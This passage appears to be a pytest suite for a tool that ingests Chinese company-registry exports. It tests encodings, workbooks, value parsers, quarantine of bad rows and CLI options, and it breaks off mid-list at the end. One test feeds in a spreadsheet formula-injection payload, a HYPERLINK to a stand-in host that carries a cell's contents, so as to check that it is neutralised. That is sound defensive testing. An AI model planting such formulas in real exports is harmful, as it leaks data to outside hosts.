"""Chinese registry exports as staff have them (issue 10): encodings, workbooks, title rows, value
parsers, control characters, the cn-registry mapping, and the bad-row limit."""

from __future__ import annotations

import json
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from matcher import code_parsers as C
from matcher import date_parsers as D
from matcher import parsers as P
from matcher import schemas as S
from matcher.errors import ConfigError, SchemaError, ValidationFailedError
from matcher.mapping import Mapping, load_mapping
from matcher.mapping_apply import apply_mapping
from matcher.snapshot import REJECTED_DIR, REPAIRS_FILE, ingest, list_snapshots, load_enterprises, validate_source
from matcher.sources import read_source
from matcher.validation import validate_enterprises
from tests.conftest import REPO_ROOT
from tests.factories import write_mapping

CN_REGISTRY = REPO_ROOT / "data" / "mappings" / "cn-registry.yaml"
CN_LISTED = REPO_ROOT / "data" / "mappings" / "cn-listed.yaml"

# The column set cn-registry.yaml reads (the sample generator of issue 10 writes the same).
REGISTRY_HEADERS = [
    "企业名称", "统一社会信用代码", "登记状态", "成立日期", "注册资本", "实缴资本", "法定代表人", "企业类型",
    "所属省份", "所属城市", "所属区县", "注册地址", "国标行业门类", "国标行业大类", "国标行业中类", "国标行业小类",
    "参保人数", "企业规模", "融资轮次", "最近融资时间", "经营范围", "主营业务", "资质荣誉",
    "高新技术企业", "专精特新", '专精特新"小巨人"', "科技型中小企业", "瞪羚", "独角兽",
]
SCOPE = "一般项目：技术服务、技术开发、技术咨询；软件开发；人工智能应用软件开发。（除依法须经批准的项目外，凭营业执照依法自主开展经营活动）"


def registry_row(i: int, **values) -> dict:
    """One realistic export row; ``values`` override columns."""
    row = {
        "企业名称": f"上海第{i}智能科技有限公司", "统一社会信用代码": f"91310110MA1G{i:06d}",
        "登记状态": "存续（在营、开业、在册）", "成立日期": "2016-05-20", "注册资本": "1000万元人民币",
        "实缴资本": "500万元人民币", "法定代表人": "张伟", "企业类型": "有限责任公司(自然人投资或控股)",
        "所属省份": "上海市", "所属城市": "上海市", "所属区县": "杨浦区" if i % 2 == 0 else "浦东新区",
        "注册地址": "上海市杨浦区国定路", "国标行业门类": "I 信息传输、软件和信息技术服务业",
        "国标行业大类": "I65 软件和信息技术服务业", "国标行业中类": "I651 软件开发", "国标行业小类": "I6513 应用软件开发",
        "参保人数": "56", "企业规模": "小型", "融资轮次": "A轮", "最近融资时间": "2023-06-01", "经营范围": SCOPE,
        "主营业务": "工业视觉检测软件", "资质荣誉": "高新技术企业；科技型中小企业", "高新技术企业": "是", "专精特新": "否",
        '专精特新"小巨人"': "否", "科技型中小企业": "是", "瞪羚": "否", "独角兽": "否",
    }
    row.update(values)
    return row


def registry_export(n: int = 8, **overrides_by_row: dict) -> pd.DataFrame:
    rows = [registry_row(i, **overrides_by_row.get(f"r{i}", {})) for i in range(n)]
    return pd.DataFrame(rows, columns=REGISTRY_HEADERS)


def write_xlsx(path: Path, sheets: dict[str, list[list]], merge: dict[str, list[str]] | None = None) -> Path:
    """A workbook written with openpyxl: sheet name -> rows (lists of cell values).

    Control characters are stored as Excel does, escaped as ``_xHHHH_`` (XML cannot hold them).
    """
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        sheet = book.create_sheet(name)
        for row in rows:
            sheet.append([P.CONTROL_CHARS.sub(lambda m: f"_x{ord(m.group()):04X}_", v) if isinstance(v, str) else v
                          for v in row])
        for cells in (merge or {}).get(name, []):
            sheet.merge_cells(cells)
    book.save(path)
    return path


def frame_rows(frame: pd.DataFrame) -> list[list]:
    return [list(frame.columns), *frame.astype(object).where(frame.notna(), None).values.tolist()]


# --- value parsers ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["2015-03-12", "2015/3/12", "2015年3月12日", "2015.03.12", "20150312", "2015-03-12 00:00:00", " 2015 年 3 月 12 日 ",
     42075, 42075.0, "42075", datetime(2015, 3, 12, 10, 30), date(2015, 3, 12), pd.Timestamp("2015-03-12")],
)
def test_dates_in_every_export_spelling(value):
    assert D.parse_date(value) == pd.Timestamp("2015-03-12")
    assert D.parse_year(value) == 2015


@pytest.mark.parametrize("value, year", [("1987-12-22", 1987), ("2015", 2015), (2015, 2015), ("2015年", 2015), ("2015年3月", 2015)])
def test_year_of_dates_and_bare_years(value, year):
    assert D.parse_year(value) == year


@pytest.mark.parametrize("value", ["昨天", "2015-13-01", "2015-02-30", "1700-01-01", "12/03/2015x", 1e9])
def test_unreadable_dates_are_failures_with_a_reason(value):
    parsed = D.parse_date(value)

    assert isinstance(parsed, P.ParseFailure)
    assert parsed.value == value and parsed.reason


@pytest.mark.parametrize("token", ["", "-", "--", "—", "未公开", "暂无", "不详", "N/A", None, float("nan")])
@pytest.mark.parametrize("parse", [D.parse_date, D.parse_year, P.parse_money, P.parse_count, P.parse_number,
                                   C.parse_industry_code, P.split_list])
def test_unknown_markers_stay_missing_never_zero(parse, token):
    assert parse(token) is None


@pytest.mark.parametrize(
    "text, cny, currency",
    [
        ("1000万元人民币", 1000e4, "CNY"),
        ("1.2亿元", 1.2e8, "CNY"),
        ("人民币1000万元", 1000e4, "CNY"),
        ("1,000.5万", 1000.5e4, "CNY"),
        ("500万美元", 500e4 * 7.1, "USD"),
        ("100万港元", 100e4 * 0.91, "HKD"),
        ("100万港币", 100e4 * 0.91, "HKD"),
        ("50万欧元", 50e4 * 8.2, "EUR"),
        ("50万(美元)", 50e4 * 7.1, "USD"),
        ("USD 50万", 50e4 * 7.1, "USD"),
        ("3000", 3000, "CNY"),
        (3000, 3000, "CNY"),
        ("0万元", 0, "CNY"),
    ],
)
def test_money_with_chinese_units_and_currencies_becomes_cny(text, cny, currency):
    parsed = P.parse_money(text)

    assert parsed.amount_cny == pytest.approx(cny)
    assert parsed.currency == currency


def test_money_rates_come_from_the_mapping():
    words, rates = P.currency_table({"USD": 7.0, "卢布": 0.09})

    assert P.parse_money("1万美元", words=words, rates=rates).amount_cny == pytest.approx(7.0e4)
    rub = P.parse_money("100万卢布", words=words, rates=rates)
    assert rub.currency == "RUB" and rub.amount_cny == pytest.approx(0.09e6)


@pytest.mark.parametrize(
    "text, reason",
    [("100万卢布", "no conversion rate for currency RUB"), ("100万火星币", "unknown currency"), ("很多钱", "not an amount")],
)
def test_money_in_an_unknown_unit_is_a_failure_naming_it(text, reason):
    parsed = P.parse_money(text)

    assert isinstance(parsed, P.ParseFailure)
    assert reason in parsed.reason


def test_a_bare_number_in_a_column_of_wan_yuan():
    spec = Mapping.model_validate(
        {"columns": {"enterprise_id": "id", "name": "n", "description": "d",
                     "registered_capital": {"column": "cap", "parse": "money", "unit": "万元"}}}
    ).columns["registered_capital"]

    assert spec.unit_multiplier() == 1e4


@pytest.mark.parametrize("value, count", [("1234", 1234), ("1,234人", 1234), (1234.0, 1234), ("0", 0), (56, 56)])
def test_counts(value, count):
    assert P.parse_count(value) == count


@pytest.mark.parametrize("value", ["50-99人", "12.5", "-3", "很多"])
def test_non_counts_are_failures(value):
    assert isinstance(P.parse_count(value), P.ParseFailure)


@pytest.mark.parametrize(
    "word, status_class",
    [("存续", "operating"), ("在业", "operating"), ("开业", "operating"), ("正常", "operating"),
     ("存续（在营、开业、在册）", "operating"), ("注销", "closed"), ("吊销", "closed"), ("撤销", "closed"),
     ("迁出", "closed"), ("停业", "closed"), ("清算", "closed"), ("吊销，未注销", "closed"), ("吊销未注销", "closed")],
)
def test_cn_registry_status_vocabulary(word, status_class):
    table = P.status_table(load_mapping(CN_REGISTRY).status_map)

    assert P.parse_status(word, table) == word  # the source's word is kept
    assert P.status_class_of(word, table) == status_class


def test_an_unknown_status_word_is_a_failure_naming_it():
    parsed = P.parse_status("神秘状态", P.status_table({}))

    assert isinstance(parsed, P.ParseFailure) and "神秘状态" in parsed.reason and "status_map" in parsed.reason


def test_list_cells_split_on_chinese_and_latin_separators():
    assert P.split_list("高新技术企业；专精特新、科技型中小企业,瞪羚，独角兽;绿色工厂") == [
        "高新技术企业", "专精特新", "科技型中小企业", "瞪羚", "独角兽", "绿色工厂"]


@pytest.mark.parametrize(
    "value, code",
    [("I6513 应用软件开发", "I6513"), ("I65 软件和信息技术服务业", "I65"), ("I 信息传输、软件和信息技术服务业", "I"),
     ("6513", "I6513"), ("3971电子元件", "C3971"), ("C39", "C39"), ("[C3971] 电子元件制造", "C3971"), ("S90", "S90")],
)
def test_industry_codes_from_code_and_name_cells(value, code):
    assert C.parse_industry_code(value) == code


@pytest.mark.parametrize("value", ["IT", "软件", "9999", "65130"])
def test_non_codes_are_failures(value):
    assert isinstance(C.parse_industry_code(value), P.ParseFailure)


def test_control_characters_are_removed_but_tabs_and_newlines_stay():
    assert P.clean_text("集成\x00电路\x07设计\t第一行\n第二行\x0b第三") == "集成电路设计\t第一行\n第二行 第三"


# --- reading files ------------------------------------------------------------------------------


def test_utf8_csv_with_a_bom_reads_its_first_header(tmp_path):
    path = tmp_path / "bom.csv"
    path.write_bytes(registry_export(2).to_csv(index=False).encode("utf-8-sig"))

    frame = read_source(path)

    assert frame.columns[0] == "企业名称"
    assert frame.attrs["source_format"].encoding == "utf-8-sig"


@pytest.mark.parametrize("encoding", ["gb18030", "gbk"])
def test_gb18030_and_gbk_csv_are_detected(tmp_path, encoding):
    export = registry_export(3)
    path = tmp_path / "gb.csv"
    path.write_bytes(export.to_csv(index=False).encode(encoding))

    frame = read_source(path)

    assert frame.attrs["source_format"].encoding == "gb18030"
    assert frame["企业名称"].tolist() == export["企业名称"].tolist()
    assert frame["经营范围"].iloc[0] == SCOPE


def test_a_gbk_file_read_as_utf8_names_file_encoding_and_the_fix(tmp_path):
    path = tmp_path / "export.csv"
    path.write_bytes(registry_export(3).to_csv(index=False).encode("gb18030"))

    with pytest.raises(SchemaError) as info:
        read_source(path, encoding="utf-8")

    message = str(info.value)
    assert "export.csv" in message and "utf-8" in message and "encoding: gb18030" in message


def test_replacement_characters_are_refused_naming_file_row_and_column(tmp_path):
    export = registry_export(4)
    export.loc[2, "企业名称"] = "上海\ufffd\ufffd科技有限公司"  # damaged by an earlier wrong decoding
    path = tmp_path / "damaged.csv"
    path.write_text(export.to_csv(index=False), encoding="utf-8")

    with pytest.raises(SchemaError) as info:
        read_source(path)

    message = str(info.value)
    assert "damaged.csv" in message and "row 3" in message and "企业名称" in message
    assert "U+FFFD" in message and "utf-8" in message


def test_the_encoding_named_by_the_mapping_is_used(tmp_path):
    path = tmp_path / "gb.csv"
    path.write_bytes(registry_export(2).to_csv(index=False).encode("gb18030"))

    frame = read_source(path, encoding="gb18030")

    assert frame.attrs["source_format"].encoding == "gb18030"
    assert frame["所属区县"].tolist() == ["杨浦区", "浦东新区"]


def test_a_title_row_above_the_header_is_skipped_with_header_row(tmp_path):
    path = tmp_path / "titled.csv"
    path.write_bytes(("企业查询结果导出（2026-11-27）\n" + registry_export(3).to_csv(index=False)).encode("gb18030"))

    frame = read_source(path, header_row=2)

    assert list(frame.columns) == REGISTRY_HEADERS and len(frame) == 3


def test_a_title_row_without_header_row_is_an_error_suggesting_it(tmp_path):
    path = tmp_path / "titled.csv"
    path.write_bytes(("企业查询结果导出\n" + registry_export(3).to_csv(index=False)).encode("gb18030"))

    with pytest.raises(SchemaError, match=r"titled.csv.*header_row: 2"):
        read_source(path)


def test_a_title_row_in_a_workbook_is_found_and_named_in_the_error(tmp_path):
    export = registry_export(3)
    path = write_xlsx(tmp_path / "titled.xlsx", {"企业": [["企业查询结果导出"], *frame_rows(export)]})
    mapping = load_mapping(CN_REGISTRY)

    with pytest.raises(SchemaError, match=r"titled.xlsx.*header_row: 2"):
        apply_mapping(read_source(path), mapping, path.name)
    frame = read_source(path, header_row=2)
    assert list(frame.columns) == REGISTRY_HEADERS and len(frame) == 3


def test_xlsx_first_sheet_by_default_and_another_by_name(tmp_path):
    first, second = registry_export(2), registry_export(3)
    path = write_xlsx(tmp_path / "two.xlsx", {"杨浦": frame_rows(first), "全市": frame_rows(second)})

    assert read_source(path)["企业名称"].tolist() == first["企业名称"].tolist()
    chosen = read_source(path, sheet="全市")
    assert len(chosen) == 3 and chosen.attrs["source_format"].sheet == "全市"


def test_a_missing_sheet_names_the_file_and_the_sheets_it_has(tmp_path):
    path = write_xlsx(tmp_path / "two.xlsx", {"杨浦": frame_rows(registry_export(2)), "全市": frame_rows(registry_export(2))})

    with pytest.raises(SchemaError) as info:
        read_source(path, sheet="浦东")

    message = str(info.value)
    assert "two.xlsx" in message and "浦东" in message and "杨浦" in message and "全市" in message


def test_sheet_on_a_csv_is_an_error(tmp_path):
    path = tmp_path / "a.csv"
    registry_export(2).to_csv(path, index=False)

    with pytest.raises(SchemaError, match="sheet"):
        read_source(path, sheet="x")


def test_merged_cells_in_the_data_name_file_sheet_and_range(tmp_path):
    path = write_xlsx(tmp_path / "merged.xlsx", {"企业": frame_rows(registry_export(4))}, merge={"企业": ["K2:K4"]})

    with pytest.raises(SchemaError) as info:
        read_source(path)

    message = str(info.value)
    assert "merged.xlsx" in message and "企业" in message and "K2:K4" in message


def test_a_merged_title_above_the_header_is_fine(tmp_path):
    rows = [["企业查询结果导出", *[None] * (len(REGISTRY_HEADERS) - 1)], *frame_rows(registry_export(2))]
    path = write_xlsx(tmp_path / "title.xlsx", {"企业": rows}, merge={"企业": ["A1:E1"]})

    frame = read_source(path, header_row=2)

    assert len(frame) == 2 and frame.columns[0] == "企业名称"


def test_workbook_cells_read_as_a_csv_export_would_hold_them(tmp_path):
    export = registry_export(3)
    rows = frame_rows(export)
    rows[1][REGISTRY_HEADERS.index("成立日期")] = datetime(2016, 5, 20)  # a real date cell
    rows[2][REGISTRY_HEADERS.index("成立日期")] = 42510  # a date cell shown as its serial number
    rows[1][REGISTRY_HEADERS.index("参保人数")] = 56  # a number cell
    rows[1][REGISTRY_HEADERS.index("统一社会信用代码")] = "91310110MA1G000000"
    path = write_xlsx(tmp_path / "typed.xlsx", {"企业": rows})

    frame = read_source(path)

    assert frame.loc[0, "成立日期"] == "2016-05-20" and frame.loc[0, "参保人数"] == "56"
    assert frame.loc[1, "成立日期"] == "42510"
    assert D.parse_date(frame.loc[1, "成立日期"]) == pd.Timestamp("2016-05-20")


def test_csv_and_xlsx_of_one_export_give_the_same_snapshot_rows(tmp_path):
    export = registry_export(6)
    csv_path = tmp_path / "e.csv"
    csv_path.write_bytes(export.to_csv(index=False).encode("gb18030"))
    xlsx_path = write_xlsx(tmp_path / "e.xlsx", {"企业": frame_rows(export)})
    mapping = load_mapping(CN_REGISTRY)

    from_csv = validate_source(csv_path, mapping).enterprises
    from_xlsx = validate_source(xlsx_path, mapping).enterprises

    pd.testing.assert_frame_equal(from_csv, from_xlsx)


# --- the mapping ---------------------------------------------------------------------------------


MINIMAL = {"enterprise_id": "id", "name": "n", "description": "d"}


@pytest.mark.parametrize(
    "columns, words",
    [
        ({"founded_year": {"column": "x", "parse": "money"}}, ["founded_year", "money"]),
        ({"employees": {"column": "x", "parse": "date"}}, ["employees", "date"]),
        ({"qualifications": {"column": "x", "values": {"a": "b"}}}, ["qualifications", "parse: list"]),
        ({"registered_capital": {"column": "x", "parse": "money", "unit": "打"}}, ["registered_capital", "打"]),
        ({"employees": {"column": "x", "unit": "万"}}, ["employees", "unit"]),
        ({"registered_capital": {"column": "x", "parse": "wealth"}}, ["registered_capital", "parse"]),
    ],
)
def test_bad_parser_declarations_name_the_column(tmp_path, columns, words):
    path = write_mapping(tmp_path / "bad.yaml", {"columns": {**MINIMAL, **columns}})

    with pytest.raises(ConfigError) as info:
        load_mapping(path)

    assert str(path) in str(info.value)
    for word in words:
        assert word in str(info.value)


def test_unknown_encoding_in_a_mapping_is_a_config_error(tmp_path):
    path = write_mapping(tmp_path / "bad.yaml", {"columns": MINIMAL, "encoding": "gbk-2000"})

    with pytest.raises(ConfigError, match="gbk-2000"):
        load_mapping(path)


def test_a_money_column_clashing_with_its_currency_column_is_refused():
    with pytest.raises(ValueError, match="registered_capital_currency"):
        Mapping.model_validate({"columns": {**MINIMAL, "registered_capital": {"column": "c", "parse": "money"}},
                                "extra": {"registered_capital_currency": "cur"}})


def test_parse_failures_are_quarantined_with_reason_and_counted():
    mapping = Mapping.model_validate({
        "columns": {**MINIMAL, "founded_year": {"column": "since", "parse": "year"},
                    "registered_capital": {"column": "cap", "parse": "money"},
                    "status": {"column": "st", "parse": "status"}},
        "status_map": {"存续": "operating"},
    })
    source = pd.DataFrame({"id": ["a", "b", "c", "d"], "n": ["甲", "乙", "丙", "丁"], "d": ["做软件"] * 4,
                           "since": ["2015年3月12日", "昨天", "2001-01-01", "-"],
                           "cap": ["100万元", "10万美元", "100万卢布", "未公开"],
                           "st": ["存续", "存续", "存续", "神秘"]}, dtype=object)

    result = validate_enterprises(apply_mapping(source, mapping, "x.csv"), "x.csv", mapping.status_map)

    assert result.rows_quarantined == 3 and result.enterprises[S.ENTERPRISE_ID].tolist() == ["a"]
    q = result.quarantine.set_index("row")
    assert q.loc[2, "column"] == "founded_year" and "not a date" in q.loc[2, "reason"] and q.loc[2, "value"] == "昨天"
    assert q.loc[3, "column"] == "registered_capital" and "RUB" in q.loc[3, "reason"] and q.loc[3, "value"] == "100万卢布"
    assert q.loc[4, "column"] == "status" and "神秘" in q.loc[4, "reason"]
    kept = result.enterprises.iloc[0]
    assert kept[S.FOUNDED_YEAR] == 2015 and kept[S.REGISTERED_CAPITAL] == pytest.approx(1e6)
    assert kept["registered_capital_currency"] == "CNY"


def test_without_parse_status_an_unknown_word_keeps_todays_unknown_class():
    mapping = Mapping.model_validate({"columns": {**MINIMAL, "status": "st"}})
    source = pd.DataFrame({"id": ["a"], "n": ["甲"], "d": ["x"], "st": ["神秘"]}, dtype=object)

    result = validate_enterprises(apply_mapping(source, mapping, "x.csv"), "x.csv", mapping.status_map)

    assert result.rows_quarantined == 0 and result.enterprises[S.STATUS_CLASS].tolist() == ["unknown"]


def test_nul_and_control_characters_are_removed_and_recorded():
    mapping = Mapping.model_validate({"columns": {**MINIMAL, "qualifications": {"column": "q", "parse": "list"}},
                                      "extra": {"note": "note"}})
    source = pd.DataFrame({"id": ["a", "b"], "n": ["甲\x00公司", "乙"], "d": ["做\x07软件", "ok"],
                           "q": ["高新\x00技术企业；瞪羚", None], "note": ["x\x1fy", None]}, dtype=object)

    result = validate_enterprises(apply_mapping(source, mapping, "x.csv"), "x.csv", {})

    ents = result.enterprises
    assert ents[S.NAME].tolist() == ["甲公司", "乙"] and ents[S.DESCRIPTION].iloc[0] == "做软件"
    assert ents[S.QUALIFICATIONS].iloc[0] == ["高新技术企业", "瞪羚"] and ents["note"].iloc[0] == "xy"
    assert result.rows_quarantined == 0
    assert sorted(result.repairs["column"]) == ["description", "name", "note", "qualifications"]
    assert set(result.repairs["reason"]) == {"control characters removed"}
    assert "\\x00" in result.repairs.set_index("column").loc["name", "value"]


def test_an_overlong_description_is_quarantined_with_its_length():
    source = pd.DataFrame({"id": ["a", "b"], "n": ["甲", "乙"], "d": ["软" * 100_001, "ok"]}, dtype=object)
    mapping = Mapping.model_validate({"columns": MINIMAL})

    result = validate_enterprises(apply_mapping(source, mapping, "x.csv"), "x.csv", {})

    assert result.enterprises[S.ENTERPRISE_ID].tolist() == ["b"]
    reason = result.quarantine.set_index("row").loc[1, "reason"]
    assert "100,001" in reason and "100,000" in reason


def test_optional_columns_may_be_absent_and_required_ones_may_not():
    export = registry_export(2).drop(columns=["主营业务", "资质荣誉", "实缴资本", "瞪羚", "独角兽", "国标行业小类"])
    mapping = load_mapping(CN_REGISTRY)

    mapped = apply_mapping(export, mapping, "lean.csv")

    assert mapped[S.DESCRIPTION].iloc[0] == SCOPE
    assert mapped[S.INDUSTRY_CODE].iloc[0] == "I651"  # the most specific level present
    assert mapped[S.QUALIFICATIONS].iloc[0] == ["high-tech enterprise", "technology-based SME"]  # from the flags
    with pytest.raises(SchemaError, match="统一社会信用代码"):
        apply_mapping(export.drop(columns=["统一社会信用代码"]), mapping, "lean.csv")


def test_concat_as_sentences_does_not_double_the_full_stop():
    mapping = Mapping.model_validate(
        {"columns": {**MINIMAL, "description": {"concat": ["main", "scope"], "sep": "。", "sentences": True}}})
    source = pd.DataFrame({"id": ["a", "b", "c"], "n": ["甲", "乙", "丙"], "main": ["做软件。", "做芯片", None],
                           "scope": ["软件开发。", "集成电路设计。", "技术服务。"]}, dtype=object)

    mapped = apply_mapping(source, mapping, "x.csv")

    assert mapped[S.DESCRIPTION].tolist() == ["做软件。软件开发。", "做芯片。集成电路设计。", "技术服务。"]


def test_is_local_by_address_contains():
    mapping = Mapping.model_validate({"columns": MINIMAL, "is_local": {"column": "addr", "contains": ["上海市杨浦区"]}})
    source = pd.DataFrame({"id": ["a", "b", "c"], "n": ["甲", "乙", "丙"], "d": ["x"] * 3,
                           "addr": ["上海市杨浦区国定路", "上海市浦东新区", None]}, dtype=object)

    assert apply_mapping(source, mapping, "x.csv")[S.IS_LOCAL].tolist() == [True, False, False]


# --- cn-registry end to end ------------------------------------------------------------------------


def realistic_export() -> pd.DataFrame:
    return registry_export(
        8,
        r1={"注册资本": "500万美元", "实缴资本": "-", "参保人数": "未公开", "登记状态": "在业"},
        r2={"成立日期": "2015年3月12日", "注册资本": "1.2亿元", "登记状态": "吊销，未注销", "资质荣誉": "-",
            "高新技术企业": "否", "科技型中小企业": "否"},
        r3={"成立日期": "2015/3/12", "资质荣誉": "国家级专精特新“小巨人”企业", '专精特新"小巨人"': "是", "专精特新": "国家级"},
        r4={"国标行业小类": "-", "国标行业中类": "-", "国标行业大类": "C39 计算机、通信和其他电子设备制造业",
            "国标行业门类": "C 制造业", "注册资本": "100万港元", "参保人数": "--"},
        r5={"最近融资时间": "暂无", "融资轮次": "-", "资质荣誉": "瞪羚企业、上海市专精特新中小企业", "瞪羚": "是"},
        r6={"登记状态": "注销", "经营范围": "集成电路设计\x00；软件开发"},
    )


def test_cn_registry_ingest_of_a_realistic_xlsx_export(tmp_path):
    export = realistic_export()
    path = write_xlsx(tmp_path / "yangpu-export.xlsx", {"企业列表": frame_rows(export)})

    info = ingest(path, load_mapping(CN_REGISTRY), tmp_path / "snapshots", 0.05)

    ents = load_enterprises(info).set_index(S.ENTERPRISE_ID)
    ids = export["统一社会信用代码"].tolist()
    assert info.manifest["counts"]["quarantined_rows"] == 0 and len(ents) == 8
    assert info.manifest["counts"]["local"] == 4 == int(ents[S.IS_LOCAL].sum())  # 杨浦区 rows
    assert ents.loc[ids[0], S.IS_LOCAL] and not ents.loc[ids[1], S.IS_LOCAL]
    assert info.manifest["source"]["sheet"] == "企业列表"
    assert {"registered_capital_currency", "paid_in_capital_currency", "district", "industry"} <= set(
        info.manifest["extra_columns"])
    first, usd, revoked, giant, coarse, gazelle, closed = (ents.loc[ids[i]] for i in range(7))
    assert first[S.DESCRIPTION] == "工业视觉检测软件。" + SCOPE
    assert first[S.INDUSTRY_CODE] == "I6513" and first["industry"] == "I6513 应用软件开发"
    assert coarse[S.INDUSTRY_CODE] == "C39"
    assert first[S.REGISTERED_CAPITAL] == pytest.approx(1e7) and first["registered_capital_currency"] == "CNY"
    assert usd[S.REGISTERED_CAPITAL] == pytest.approx(500e4 * 7.1) and usd["registered_capital_currency"] == "USD"
    assert coarse["registered_capital_currency"] == "HKD"
    assert pd.isna(usd[S.EMPLOYEES]) and pd.isna(coarse[S.EMPLOYEES]) and first[S.EMPLOYEES] == 56
    assert pd.isna(usd["paid_in_capital"])
    assert revoked[S.FOUNDED_YEAR] == 2015 and giant[S.FOUNDED_YEAR] == 2015 and first[S.FOUNDED_YEAR] == 2016
    assert pd.isna(gazelle[S.LAST_FUNDING_DATE]) and first[S.LAST_FUNDING_DATE] == pd.Timestamp("2023-06-01")
    assert [ents.loc[i, S.STATUS_CLASS] for i in ids[:3]] == ["operating", "operating", "closed"]
    assert closed[S.STATUS_CLASS] == "closed" and closed[S.STATUS] == "注销"
    assert first[S.QUALIFICATIONS] == ["high-tech enterprise", "technology-based SME"]
    assert revoked[S.QUALIFICATIONS] == []
    assert {"little giant enterprise", "specialised and sophisticated SME"} <= set(giant[S.QUALIFICATIONS])
    assert {"gazelle enterprise", "specialised and sophisticated SME"} <= set(gazelle[S.QUALIFICATIONS])
    assert "\x00" not in closed[S.DESCRIPTION]
    repairs = pd.read_csv(info.path / REPAIRS_FILE)
    assert repairs[["row", "column"]].values.tolist() == [[7, "description"]]
    assert repairs["file"].tolist() == ["yangpu-export.xlsx[企业列表]"]


def test_policy_qualifications_of_the_chain_map_result_from_the_chinese_export():
    from matcher.chain_map import load_chain_map
    from tests.conftest import CHAIN_MAP

    required = {q for p in load_chain_map(CHAIN_MAP).region.policies for q in p.requires_qualifications}
    mapped = apply_mapping(realistic_export(), load_mapping(CN_REGISTRY), "x.csv")
    produced = {q for qs in mapped[S.QUALIFICATIONS] if qs for q in qs}

    assert {"high-tech enterprise", "specialised and sophisticated SME"} <= required & produced


def test_bad_rows_of_a_gb18030_export_are_quarantined_and_counted(tmp_path):
    export = realistic_export()
    export = pd.concat([export, registry_export(32).iloc[8:]], ignore_index=True)
    export.loc[3, "登记状态"] = "神秘状态"
    export.loc[5, "注册资本"] = "100万卢布"
    path = tmp_path / "export.csv"
    path.write_bytes(("杨浦区企业名单\n" + export.to_csv(index=False)).encode("gb18030"))
    mapping = Mapping.model_validate({**load_mapping(CN_REGISTRY).model_dump(by_alias=True, exclude_unset=True),
                                      "header_row": 2})

    info = ingest(path, mapping, tmp_path / "snapshots", 0.10)

    assert info.manifest["counts"]["quarantined_rows"] == 2 and info.manifest["counts"]["enterprises"] == 30
    assert info.manifest["source"]["encoding"] == "gb18030" and info.manifest["source"]["header_row"] == 2
    quarantine = pd.read_csv(info.path / "quarantine.csv").set_index("row")
    assert quarantine.loc[4, "column"] == "status" and "神秘状态" in quarantine.loc[4, "reason"]
    assert quarantine.loc[6, "column"] == "registered_capital" and "RUB" in quarantine.loc[6, "reason"]


def test_nothing_is_published_from_an_export_over_the_bad_row_limit(tmp_path):
    export = realistic_export()
    export.loc[[1, 4], "登记状态"] = "神秘状态"
    path = tmp_path / "export.csv"
    path.write_bytes(export.to_csv(index=False).encode("gb18030"))
    snapshots = tmp_path / "snapshots"

    with pytest.raises(ValidationFailedError) as info:
        ingest(path, load_mapping(CN_REGISTRY), snapshots, 0.05)

    message = str(info.value)
    assert "export.csv" in message and "2 of 8 rows" in message and "unknown status" in message
    assert "nothing was published" in message
    assert list_snapshots(snapshots) == []
    rejected = list((snapshots / REJECTED_DIR).iterdir())
    assert len(rejected) == 1 and "神秘状态" in rejected[0].read_text()


# --- the command line ----------------------------------------------------------------------------------


def test_cli_ingest_reads_the_named_sheet(tmp_path, run_main):
    export = realistic_export()
    path = write_xlsx(tmp_path / "book.xlsx", {"说明": [["本文件由平台导出"]], "企业列表": frame_rows(export)})

    code, out, err = run_main(["ingest", path, "--mapping", CN_REGISTRY, "--sheet", "企业列表", "--home", tmp_path, "--json"])

    assert code == 0, err
    summary = json.loads(out)
    assert summary["counts"]["enterprises"] == 8 and summary["counts"]["local"] == 4


def test_cli_ingest_of_a_missing_sheet_is_one_readable_line(tmp_path, run_main):
    path = write_xlsx(tmp_path / "book.xlsx", {"企业列表": frame_rows(realistic_export())})

    code, out, err = run_main(["ingest", path, "--mapping", CN_REGISTRY, "--sheet", "Sheet9", "--home", tmp_path])

    assert code != 0
    lines = [line for line in err.strip().splitlines() if line.strip()]
    assert len(lines) == 1 and "book.xlsx" in lines[0] and "Sheet9" in lines[0] and "企业列表" in lines[0]


@pytest.mark.parametrize("command", ["ingest", "refresh", "schedule"])
def test_sheet_option_is_in_the_help(run_main, command):
    code, out, _ = run_main([command, "--help"])

    assert code == 0 and "--sheet" in out


def test_an_unreadable_sheet_names_the_file_and_sheet(tmp_path):
    import zipfile

    good = write_xlsx(tmp_path / "good.xlsx", {"企业": frame_rows(registry_export(2))})
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(broken, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/sheet"):
                data = data[: len(data) // 2]  # a sheet cut off mid-way, as a failed download leaves it
            target.writestr(item, data)

    with pytest.raises(SchemaError) as info:
        read_source(broken)

    message = str(info.value)
    assert "broken.xlsx" in message and "企业" in message


def test_the_mappings_sheet_is_read_and_the_option_overrides_it(tmp_path):
    first, second = realistic_export(), registry_export(3)
    path = write_xlsx(tmp_path / "two.xlsx", {"说明": [["导出说明"]], "杨浦": frame_rows(first), "全市": frame_rows(second)})
    mapping = Mapping.model_validate({**load_mapping(CN_REGISTRY).model_dump(by_alias=True, exclude_unset=True),
                                      "sheet": "杨浦"})

    by_mapping = ingest(path, mapping, tmp_path / "snapshots", 0.05)
    by_option = ingest(path, mapping, tmp_path / "snapshots", 0.05, sheet="全市")

    assert by_mapping.manifest["source"]["sheet"] == "杨浦" and by_mapping.manifest["counts"]["enterprises"] == 8
    assert by_option.manifest["source"]["sheet"] == "全市" and by_option.manifest["counts"]["enterprises"] == 3


def test_a_formula_in_source_data_stays_text_in_the_quarantine_file(tmp_path):
    export = realistic_export()
    export.loc[2, "登记状态"] = '=HYPERLINK("http://x.example/?q="&A2,"click")'
    path = tmp_path / "export.csv"
    export.to_csv(path, index=False)

    info = ingest(path, load_mapping(CN_REGISTRY), tmp_path / "snapshots", 0.5)

    quarantine = pd.read_csv(info.path / "quarantine.csv", dtype=str).set_index("row")
    # Staff open the quarantine in Excel: the value is kept, as text (OWASP: a leading quote).
    assert quarantine.loc["3", "value"] == "'" + export.loc[2, "登记状态"]


@pytest.mark.parametrize("cell, code", [
    ("上海市", "CN"), ("江苏省", "CN"), ("广西壮族自治区", "CN"), ("内蒙古", "CN"), ("德国", "DE"), ("香港", "HK"),
